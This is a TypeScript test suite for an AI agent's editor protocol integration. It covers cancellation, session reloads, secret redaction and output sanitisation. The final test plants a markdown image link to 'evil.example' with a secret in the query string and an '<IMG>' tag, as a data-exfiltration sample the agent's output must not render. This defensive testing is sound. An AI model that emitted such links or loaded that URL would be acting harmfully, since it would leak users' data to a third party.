import assert from "node:assert/strict";
import { mkdir, readdir, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import type { ContentBlock, SessionUpdate } from "@agentclientprotocol/sdk";
import { eventsOfType } from "../support/program.js";
import { reply } from "../support/services/fake-open-ai.js";
import { acpWorld, sessionToldInThought, type AcpWorld, type Editor } from "./acp-world.js";

const done = reply("task_complete", { reason: "done" });
const write = (file: string, text = "x"): string => reply("write_to_file", { file, text });
const never = (): Promise<string> => new Promise(() => undefined);
const runsIn = ({ folder }: AcpWorld): Promise<string[]> => readdir(join(folder, ".autogpt", "runs"));
const toolsIn = (updates: readonly SessionUpdate[]): string[] =>
  updates.flatMap((one) =>
    one.sessionUpdate === "tool_call" || one.sessionUpdate === "tool_call_update"
      ? [`${one.sessionUpdate} ${one.toolCallId.split(":").at(-1)} ${one.status}`]
      : [],
  );
const load = ({ agent }: Editor, sessionId: string, cwd: string) =>
  agent.request("session/load", { sessionId, cwd, mcpServers: [] });

test("what comes right behind a prompt is heard behind it: a cancellation, a close, a prompt taken back", async (t) => {
  const world = await acpWorld(t, never);
  const editor = await world.editor();
  const one = await editor.open();
  const cancelled = editor.prompt(one, "Write");
  await editor.cancel(one);
  assert.deepEqual(await cancelled, { stopReason: "cancelled" });

  const two = await editor.open();
  const closed = editor.prompt(two, "Write");
  const closing = editor.agent.request("session/close", { sessionId: two });
  const late = editor.prompt(two, "And more");
  assert.deepEqual(await closed, { stopReason: "cancelled" });
  await closing;
  await assert.rejects(late, /There is no session/);

  const three = await editor.open();
  const taken = new AbortController();
  const prompt = editor.agent.request(
    "session/prompt",
    { sessionId: three, prompt: [{ type: "text", text: "Write" }] },
    { cancellationSignal: taken.signal },
  );
  taken.abort();
  assert.deepEqual(await prompt, { stopReason: "cancelled" });
  assert.equal(await editor.leave(), 0);
});

test("a session that is loaded again is told as to an editor that knows nothing of it, also twice at once and by another path", async (t) => {
  const world = await acpWorld(t, [write("a.txt"), done]);
  const editor = await world.editor();
  const session = await editor.open();
  await editor.prompt(session, "Write");
  const linked = join(world.folder, "..", "linked");
  await symlink(world.folder, linked);
  editor.updates.length = 0;
  await load(editor, session, world.folder);
  const told = ["tool_call 1 pending", "tool_call_update 1 in_progress", "tool_call_update 1 completed"];
  assert.deepEqual(toolsIn(editor.updates).slice(0, 3), told);

  const other = await world.editor();
  const { sessions } = await other.agent.request("session/list", { cwd: linked });
  assert.deepEqual(
    sessions.map(({ sessionId }) => sessionId),
    [session],
  );
  await Promise.all([load(other, session, linked), load(other, session, world.folder)]);
  const both = other.prompt(session, "Once more");
  await load(other, session, world.folder);
  await other.cancel(session);
  assert.deepEqual(await both, { stopReason: "cancelled" });
});

test("what is said in the step that uses a limit up is heard by the run that goes on from there", async (t) => {
  const { world, editor, session, told } = await sessionToldInThought(t, {
    text: "And now in green",
    replyAt: (index) => (index === 0 ? write("a.txt") : done),
    options: { flags: { continuous: true, continuousLimit: 1 } },
  });
  const first = await editor.prompt(session, "Paint it");
  assert.deepEqual([first, await told()], [{ stopReason: "max_turn_requests" }, { stopReason: "max_turn_requests" }]);
  await editor.prompt(session, "Go on");
  assert.equal((await runsIn(world)).length, 2);
  const messages = eventsOfType(await world.journal(), "step-end");
  assert.match(JSON.stringify(messages), /And now in green[^]*Go on/);
});

test("no secret is sent to an editor: in titles, in what is asked about trust, in what an error says", async (t) => {
  const secret = "sk-9f8e7d6c5b4a39281706f5e4d3c2b1a0";
  const world = await acpWorld(t, [write("a.txt", secret), done]);
  const seen: string[] = [];
  const editor = await world.editor({
    env: { OPENAI_API_KEY: secret },
    hear: (line) => seen.push(line),
    answer: ({ toolCall }) => (toolCall.toolCallId.startsWith("trust") ? "no" : "yes"),
  });
  const server = { name: "x", command: "/nowhere", args: [secret], env: [{ name: "KEY", value: secret }] };
  const session = await editor.open({ mcpServers: [server] });
  await editor.prompt(session, `Use ${secret}`).catch(() => null);
  await editor.prompt(session, "Write it").catch(() => null);
  await load(editor, session, world.folder).catch(() => null);
  assert.ok(editor.permissions.some(({ toolCall }) => toolCall.toolCallId.startsWith("trust")));
  assert.ok(seen.length > 5);
  assert.equal(seen.join("\n").includes(secret), false);
});

test("settings and journals that cannot be read are told in a sentence by whatever needs them", async (t) => {
  const world = await acpWorld(t, [done]);
  const editor = await world.editor();
  const session = await editor.open();
  await editor.prompt(session, "Write");
  const [run = ""] = await runsIn(world);
  const wrong = await world.editor({ env: { MEMORY_BACKEND: "stone" } });
  for (const asked of [
    wrong.open(),
    wrong.agent.request("session/list", { cwd: world.folder }),
    load(wrong, session, world.folder),
    wrong.agent.request("session/resume", { sessionId: session, cwd: world.folder }),
    wrong.agent.request("authenticate", { methodId: "init" }),
  ])
    await assert.rejects(asked, /MEMORY_BACKEND in the environment is "stone", but must be/);

  const journal = join(world.folder, ".autogpt", "runs", run, "events.jsonl");
  const start = JSON.stringify((await world.journal())[0]);
  await writeFile(journal, `${start}\nno event\n${start}\n`);
  await assert.rejects(load(editor, session, world.folder), new RegExp(run));
});

test("a message that is longer than can be read ends the line, and it is said why", async (t) => {
  const world = await acpWorld(t, []);
  const said: string[] = [];
  const editor = await world.editor({ say: (text) => said.push(text) });
  const session = await editor.open();
  void editor.prompt(session, "x".repeat(33 * 1024 * 1024)).catch(() => null);
  assert.equal(await editor.exit, 0);
  assert.match(said.join("\n"), /The line to the editor has broken: .*limit/);
});

test("what is shown of results loads no picture, and an attachment full of marks is taken", async (t) => {
  const picture = "![a[b] c](https://evil.example/?q=secret)";
  const world = await acpWorld(t, [
    reply("read_file", { file: "page.md" }, { text: picture, speak: `<IMG src=x> ${picture}` }),
    done,
    done,
  ]);
  await writeFile(join(world.folder, "page.md"), `${picture}\n\`\`\`\n${picture}\n`);
  await mkdir(join(world.folder, "sub"));
  const editor = await world.editor();
  const session = await editor.open();
  await editor.prompt(session, "Read");
  assert.ok(
    !/(?<!\\)!?\[a\[b\] c\]|<img/i.test(editor.text("agent_thought_chunk") + editor.text("agent_message_chunk")),
  );
  const results = editor.updates.flatMap((one) =>
    one.sessionUpdate === "tool_call_update"
      ? (one.content ?? []).flatMap((part) =>
          part.type === "content" && "text" in part.content ? [part.content.text] : [],
        )
      : [],
  );
  assert.ok(results.some((text) => text.includes(picture) && text.startsWith("````\n") && text.endsWith("\n````")));
  const blocks: ContentBlock[] = [
    { type: "text", text: "Explain" },
    { type: "resource", resource: { uri: "file:///a.txt", text: "`a".repeat(300_000) } },
    { type: "text", text: "please" },
  ];
  await editor.prompt(session, blocks);
  assert.match(JSON.stringify(eventsOfType(await world.journal(), "step-end")), /Explain \/a\.txt please/);
});
